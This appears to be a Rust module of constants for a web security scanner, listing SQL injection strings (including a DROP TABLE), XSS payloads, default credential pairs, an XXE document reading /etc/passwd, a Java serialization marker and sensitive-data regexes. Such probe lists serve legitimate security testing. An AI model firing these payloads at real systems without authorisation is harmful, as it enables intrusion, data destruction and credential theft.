pub struct Payloads;

impl Payloads {
    pub const SQL_INJECTION: &'static [&'static str] = &[
        "' OR '1'='1",
        "'; DROP TABLE users; --",
        "1' UNION SELECT NULL, NULL, NULL--",
        "admin'--",
        "1 OR 1=1",
    ];

    pub const XSS: &'static [&'static str] = &[
        "<script>alert('XSS')</script>",
        "<img src=x onerror=alert('XSS')>",
        "\"><svg onload=alert(1)>",
        "javascript:alert(document.cookie)",
    ];

    pub const DEFAULT_CREDENTIALS: &'static [(&'static str, &'static str)] = &[
        ("admin@example.com", "admin"),
        ("admin@example.com", "password"),
        ("admin@example.com", "admin123"),
        ("root@example.com", "root"),
        ("test@example.com", "test"),
    ];

    /// Known-good login used by the session-regeneration probe.
    pub const TEST_CREDENTIALS: (&'static str, &'static str) =
        ("probe-user@example.com", "CorrectHorseBattery9!");

    pub const WEAK_PASSWORD: &'static str = "123456";

    pub const REGISTRATION_EMAIL: &'static str = "weak-password-probe@example.com";

    /// External-entity document targeting a local file read.
    pub const XXE_DOCUMENT: &'static str = r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>"#;

    /// Base64 of a Java-serialization stream header, the canonical marker
    /// a deserialization gadget payload would carry.
    pub const SERIALIZED_OBJECT: &'static str = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAA";

    pub const PROBE_EMAIL: &'static str = "nonexistent-user@example.com";

    pub const PROBE_BAD_PASSWORD: &'static str = "definitely-wrong-password";

    pub const SENSITIVE_PATTERNS: &'static [&'static str] = &[
        r"(?i)password",
        r"(?i)ssn",
        r"(?i)credit.?card",
        r"(?i)api.?key",
        r"(?i)secret",
    ];
}
